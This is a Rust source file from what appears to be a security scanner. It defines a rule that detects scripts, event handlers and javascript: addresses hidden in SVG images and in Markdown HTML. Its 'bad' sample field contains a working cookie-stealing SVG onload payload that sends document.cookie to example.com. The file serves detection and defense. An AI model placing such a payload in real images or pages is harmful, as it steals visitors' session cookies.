//! `hide.svg-script`

use super::super::page::{Hit, Page};
use super::{Look, Rule, Weight};
use crate::model::finding::Tier;
use crate::model::text;

pub(super) static RULE: Rule = Rule {
    id: "hide.svg-script",
    title: "a picture that runs a script",
    weight: Weight::of_commands(Tier::Confirm, Tier::Note, Some(Tier::Confirm)),
    owasp: &["AST01"],
    what: "A script, a handler of events or a `javascript:` address in an SVG picture or in the HTML of a Markdown text; in an HTML page, a script that is loaded from elsewhere, as a note.",
    why: "A picture is opened without a thought, and a browser runs what is in it.",
    instead: "Ship the picture without it.",
    limits: "Scripts that stand in an HTML page itself are what such pages have, and are left alone.",
    bad: "Logo:\n\n<svg onload=\"fetch('https://example.com/?c='+document.cookie)\"></svg>\n",
    alike: "Logo:\n\n<svg width=\"10\"><path d=\"M0 0\"/></svg>\n\n```html\n<svg onload=\"init()\"><script>go()</script></svg>\n```\n",
    look: Look::Page(look),
};

fn look(page: &Page<'_>) -> Vec<Hit> {
    let ending = page.ending();
    let picture = matches!(ending.as_str(), "svg" | "svgz");
    let html = matches!(ending.as_str(), "html" | "htm" | "xhtml");
    let mut all = Vec::new();
    if !(picture || html || matches!(ending.as_str(), "md" | "mdx" | "markdown" | "mdc")) {
        return all;
    }
    let text = !(picture || html);
    let mut at = if text { page.body() } else { 0 };
    while let Some(found) = page.text.get(at..).and_then(|rest| rest.find('<')) {
        let start = at + found;
        at = start + 1;
        if page.is_code(start) {
            continue;
        }
        let tag = page.text.get(at..).unwrap_or_default();
        if !tag.starts_with(|c: char| c.is_ascii_alphabetic()) {
            continue;
        }
        // No tag is longer; a text of nothing but tags that never end is read once.
        let tag = &tag[..tag.floor_char_boundary(4096)];
        let end = tag.find(['>', '<']).unwrap_or(tag.len());
        let closed = tag[end..].starts_with('>');
        let tag = tag[..end].to_ascii_lowercase();
        at += end;
        let Some(told) = active(&tag, html).filter(|_| !text || closed && !is_word(page.text, start, &tag))
        else {
            continue;
        };
        let tier = if html { Tier::Note } else { Tier::Confirm };
        all.push(Hit::new(start, at, tier, format!("{told}: `{}`", text::escape_short(&tag, 100))));
    }
    all
}

/// Whether a tag in a sentence is what the sentence talks about: it has nothing in it and stands in a line.
fn is_word(text: &str, start: usize, tag: &str) -> bool {
    let before = text.get(..start).and_then(|text| text.rsplit('\n').next()).unwrap_or_default();
    tag.trim().bytes().all(|byte| byte.is_ascii_alphanumeric()) && !before.trim().is_empty()
}

/// What of a tag runs, if anything does.
fn active(tag: &str, html: bool) -> Option<&'static str> {
    let name = tag.split(|c: char| !c.is_ascii_alphanumeric()).next().unwrap_or_default();
    let source = tag.contains("src=") || tag.contains("href=");
    if name == "script" && (!html || source && tag.contains("http")) {
        return Some("a script");
    }
    if html {
        return None;
    }
    let handler =
        tag.match_indices(" on").chain(tag.match_indices("\non")).chain(tag.match_indices("/on")).any(
            |(at, _)| {
                let rest = &tag[at + 3..];
                let length = rest.find(|c: char| !c.is_ascii_lowercase()).unwrap_or(rest.len());
                length >= 3
                    && rest[length..].trim_start().starts_with('=')
                    && rest[length..].trim_start()[1..].trim_start().starts_with(['"', '\''])
            },
        );
    if handler {
        return Some("a handler of events");
    }
    let squeezed = tag.contains("script:")
        && tag.split(['"', '\'', '=']).any(|part| part.trim_start().starts_with("javascript:"));
    squeezed.then_some("an address that is a script")
}
